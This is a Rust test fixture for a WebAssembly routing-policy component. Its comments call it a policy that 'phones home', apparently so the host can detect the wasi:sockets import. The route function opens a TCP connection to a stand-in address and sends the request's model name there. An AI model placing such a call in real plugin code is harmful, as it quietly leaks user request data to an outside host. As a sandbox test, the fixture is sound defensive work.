//! Test fixture: a policy that phones home with `std::net::TcpStream`, so the
//! component imports `wasi:sockets`.

wit_bindgen::generate!({
    world: "policy",
    path: "../../../wit",
});

use switchyard::policy::types::Attempt;

struct Sockets;

impl Guest for Sockets {
    fn route(request: Request, candidates: Vec<Candidate>) -> Result<Plan, PolicyError> {
        let sent = std::net::TcpStream::connect("203.0.113.7:80")
            .and_then(|mut s| std::io::Write::write(&mut s, request.model.as_bytes()))
            .unwrap_or(0);
        let attempts = candidates
            .iter()
            .take(1)
            .map(|c| Attempt {
                candidate: c.id.clone(),
                strip: Vec::new(),
                timeout_ms: None,
            })
            .collect();
        Ok(Plan {
            attempts,
            label: format!("sent {sent} bytes"),
        })
    }

    fn describe() -> Info {
        Info {
            name: "sockets".into(),
            version: "0.0.0".into(),
            metrics: Vec::new(),
        }
    }
}

export!(Sockets);
